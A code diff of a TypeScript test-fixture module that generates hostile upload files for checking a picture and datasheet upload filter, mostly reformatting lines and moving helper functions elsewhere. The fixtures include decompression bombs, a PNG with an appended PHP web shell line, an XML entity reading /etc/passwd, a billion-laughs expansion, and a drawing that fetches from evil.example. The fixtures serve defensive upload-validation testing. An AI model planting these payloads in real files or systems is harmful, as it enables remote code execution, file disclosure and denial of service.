@@ -1,7 +1,23 @@
-import { crc32, deflateSync, gzipSync } from "node:zlib";
+import { deflateSync, gzipSync } from "node:zlib";
 import sharp from "sharp";
+import {
+  animated,
+  jpegClaiming,
+  jpegWithComment,
+  manyChunks,
+  manyScans,
+  pngHead,
+  pngOf,
+  webpClaiming,
+  withChunk,
+} from "./broken-pictures.ts";
 
-export type HostileFile = { what: string; name: string; bytes: Buffer; to: "pictures" | "datasheets" | "both" };
+export type HostileFile = {
+  what: string;
+  name: string;
+  bytes: Buffer;
+  to: "pictures" | "datasheets" | "both";
+};
 
 /** Stands in every file that carries something to run: found in what is kept, it came through. */
 export const MARK = "ZQ-HOSTILE-ZQ";
@@ -24,8 +40,18 @@ export async function hostileFiles(): Promise<HostileFile[]> {
   })
     .webp({ loop: 0 })
     .toBuffer();
-  const picture = (what: string, bytes: Buffer, name = "a.png"): HostileFile => ({ what, name, bytes, to: "pictures" });
-  const sheet = (what: string, bytes: Buffer, name = "a.pdf"): HostileFile => ({ what, name, bytes, to: "datasheets" });
+  const picture = (what: string, bytes: Buffer, name = "a.png"): HostileFile => ({
+    what,
+    name,
+    bytes,
+    to: "pictures",
+  });
+  const sheet = (what: string, bytes: Buffer, name = "a.pdf"): HostileFile => ({
+    what,
+    name,
+    bytes,
+    to: "datasheets",
+  });
   const both = (what: string, bytes: Buffer | string, name = "a.png"): HostileFile => ({
     what,
     name,
@@ -59,31 +85,62 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     picture("50 000 001 pixels", pngOf(50_000_001, 1, 1, 0)),
     picture("7000 x 7000 in true colour, just allowed", pngOf(7000, 7000, 8, 2)),
     picture("one pixel high, very wide", pngOf(200_000, 1, 8, 2)),
-    picture("a colour profile that unpacks to 300 MB", withChunk(png, "iCCP", Buffer.concat([Buffer.from("x\0\0"), deflateSync(Buffer.alloc(300_000_000))]))),
-    picture("a comment that unpacks to 300 MB", withChunk(png, "zTXt", Buffer.concat([Buffer.from("Comment\0\0"), deflateSync(Buffer.alloc(300_000_000))]))),
+    picture(
+      "a colour profile that unpacks to 300 MB",
+      withChunk(
+        png,
+        "iCCP",
+        Buffer.concat([Buffer.from("x\0\0"), deflateSync(Buffer.alloc(300_000_000))]),
+      ),
+    ),
+    picture(
+      "a comment that unpacks to 300 MB",
+      withChunk(
+        png,
+        "zTXt",
+        Buffer.concat([Buffer.from("Comment\0\0"), deflateSync(Buffer.alloc(300_000_000))]),
+      ),
+    ),
     picture("200 000 empty chunks", manyChunks(png, 200_000)),
     picture("a JPEG that claims 65 500 x 65 500", jpegClaiming(jpeg, 65_500, 65_500)),
     picture("a WebP that claims 16 383 x 16 383", webpClaiming(webp)),
     picture("40 frames", frames),
     picture("a picture that moves", animated(png)),
     picture("4 000 scans of a JPEG", manyScans(jpeg, 4000)),
-    picture("50 MB of noise behind a head", Buffer.concat([png.subarray(0, 40), Buffer.alloc(50 * 1024 * 1024 - 40, 0xa5)])),
+    picture(
+      "50 MB of noise behind a head",
+      Buffer.concat([png.subarray(0, 40), Buffer.alloc(50 * 1024 * 1024 - 40, 0xa5)]),
+    ),
     both("one byte more than 50 MB", Buffer.alloc(50 * 1024 * 1024 + 1, 1)),
     // Cut short or broken.
-    ...[0.1, 0.5, 0.9].map((part) => picture(`a PNG cut off at ${part}`, png.subarray(0, png.length * part))),
+    ...[0.1, 0.5, 0.9].map((part) =>
+      picture(`a PNG cut off at ${part}`, png.subarray(0, png.length * part)),
+    ),
     picture("a JPEG cut off", jpeg.subarray(0, jpeg.length / 2)),
     picture("a WebP cut off", webp.subarray(0, webp.length / 2)),
     picture("an AVIF cut off", avif.subarray(0, avif.length / 2)),
-    picture("a wrong checksum", Buffer.from(png.map((byte, at) => (at === 30 ? byte ^ 255 : byte)))),
+    picture(
+      "a wrong checksum",
+      Buffer.from(png.map((byte, at) => (at === 30 ? byte ^ 255 : byte))),
+    ),
     picture("only the first bytes of a PNG", png.subarray(0, 8)),
     sheet("a PDF without its end", pdf.subarray(0, 20)),
     both("nothing", ""),
     both("one byte", "P"),
     // Two things at once.
     picture("a JPEG with a page in its comment", jpegWithComment(jpeg, script)),
-    picture("a PNG with a script in its text", withChunk(png, "tEXt", Buffer.from(`Title\0${script}`))),
-    picture("a PNG with a script in its XMP", withChunk(png, "iTXt", Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${script}`))),
-    picture("a PNG with PHP behind it", Buffer.concat([png, Buffer.from(`<?php /*${MARK}*/ system($_GET[0]);`)])),
+    picture(
+      "a PNG with a script in its text",
+      withChunk(png, "tEXt", Buffer.from(`Title\0${script}`)),
+    ),
+    picture(
+      "a PNG with a script in its XMP",
+      withChunk(png, "iTXt", Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${script}`)),
+    ),
+    picture(
+      "a PNG with PHP behind it",
+      Buffer.concat([png, Buffer.from(`<?php /*${MARK}*/ system($_GET[0]);`)]),
+    ),
     picture("a PNG with a zip behind it", Buffer.concat([png, Buffer.from(`PK\x03\x04${MARK}`)])),
     picture("a WebP with a page behind it", Buffer.concat([webp, Buffer.from(script)])),
     picture("an AVIF with a page behind it", Buffer.concat([avif, Buffer.from(script)])),
@@ -94,9 +151,19 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     both("a packed SVG", gzipSync(svg), "a.svgz"),
     both("a page called PNG", `<!doctype html>${script}`, "a.png"),
     both("a page in UTF-16", Buffer.from(`\ufeff<html>${script}`, "utf16le"), "a.png"),
-    both("XML that reads a file", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;${MARK}</svg>`),
-    both("XML that unfolds without end", `<!DOCTYPE l [<!ENTITY a "${MARK}"><!ENTITY b "${"&a;".repeat(50)}"><!ENTITY c "${"&b;".repeat(50)}">]><svg>&c;</svg>`),
-    both("a drawing that fetches", `push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://evil.example/${MARK})'\npop graphic-context`, "a.mvg"),
+    both(
+      "XML that reads a file",
+      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;${MARK}</svg>`,
+    ),
+    both(
+      "XML that unfolds without end",
+      `<!DOCTYPE l [<!ENTITY a "${MARK}"><!ENTITY b "${"&a;".repeat(50)}"><!ENTITY c "${"&b;".repeat(50)}">]><svg>&c;</svg>`,
+    ),
+    both(
+      "a drawing that fetches",
+      `push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://evil.example/${MARK})'\npop graphic-context`,
+      "a.mvg",
+    ),
     both("a program", `MZ${MARK}`, "a.exe"),
     both("another program", `\x7fELF${MARK}`, "a"),
     both("PostScript", `%!PS-Adobe-3.0 EPSF-3.0\n% ${MARK}\nsystemdict`, "a.eps"),
@@ -113,73 +180,8 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     both("a film", `\0\0\0\x18ftypmp42${MARK}`, "a.mp4"),
     both("an iPhone's HEIC", `\0\0\0\x18ftypheic\0\0\0\0mif1heic${MARK}`, "a.heic"),
     // A picture, under a name that should lead it elsewhere.
-    ...names.map((name) => picture(`a picture called ${JSON.stringify(name.slice(0, 40))}`, png, name)),
+    ...names.map((name) =>
+      picture(`a picture called ${JSON.stringify(name.slice(0, 40))}`, png, name),
+    ),
   ];
-}
-
-function chunk(type: string, data: Buffer): Buffer {
-  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
-  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
-  length.writeUInt32BE(data.length);
-  sum.writeUInt32BE(crc32(body));
-  return Buffer.concat([length, body, sum]);
-}
-
-function pngHead(width: number, height: number, depth = 8, colour = 2): Buffer {
-  const head = Buffer.alloc(13);
-  head.writeUInt32BE(width, 0);
-  head.writeUInt32BE(height, 4);
-  head.set([depth, colour, 0, 0, 0], 8);
-  return Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), chunk("IHDR", head), chunk("IDAT", deflateSync(Buffer.alloc(1000))), chunk("IEND", Buffer.alloc(0))]);
-}
-
-/** A whole picture, all of one colour: small on the way, large when it is unpacked. */
-function pngOf(width: number, height: number, depth: number, colour: number): Buffer {
-  const row = 1 + Math.ceil((width * depth * (colour === 2 ? 3 : 1)) / 8);
-  const packed = deflateSync(Buffer.alloc(row * height));
-  const empty = pngHead(width, height, depth, colour);
-  return Buffer.concat([empty.subarray(0, 33), chunk("IDAT", packed), chunk("IEND", Buffer.alloc(0))]);
-}
-
-function withChunk(png: Buffer, type: string, data: Buffer): Buffer {
-  return Buffer.concat([png.subarray(0, 33), chunk(type, data), png.subarray(33)]);
-}
-
-function manyChunks(png: Buffer, count: number): Buffer {
-  const one = chunk("tEXt", Buffer.from("a\0b"));
-  return Buffer.concat([png.subarray(0, 33), ...Array<Buffer>(count).fill(one), png.subarray(33)]);
-}
-
-function animated(png: Buffer): Buffer {
-  const control = Buffer.alloc(8);
-  control.writeUInt32BE(1000, 0);
-  return withChunk(png, "acTL", control);
-}
-
-function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
-  const claimed = Buffer.from(jpeg);
-  const at = claimed.indexOf(Buffer.from([0xff, 0xc0]));
-  claimed.writeUInt16BE(height, at + 5);
-  claimed.writeUInt16BE(width, at + 7);
-  return claimed;
-}
-
-function jpegWithComment(jpeg: Buffer, text: string): Buffer {
-  const length = Buffer.alloc(2);
-  length.writeUInt16BE(text.length + 2);
-  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, Buffer.from(text), jpeg.subarray(2)]);
-}
-
-/** The same scan again and again: each is a pass over the whole picture. */
-function manyScans(jpeg: Buffer, count: number): Buffer {
-  const at = jpeg.indexOf(Buffer.from([0xff, 0xda]));
-  const scan = jpeg.subarray(at, -2);
-  return Buffer.concat([jpeg.subarray(0, at), ...Array<Buffer>(count).fill(scan), Buffer.from([0xff, 0xd9])]);
-}
-
-function webpClaiming(webp: Buffer): Buffer {
-  const claimed = Buffer.from(webp);
-  const at = claimed.indexOf(Buffer.from([0x9d, 0x01, 0x2a]));
-  if (at > 0) claimed.writeUInt32LE(0x3fff3fff, at + 3);
-  return claimed;
 }
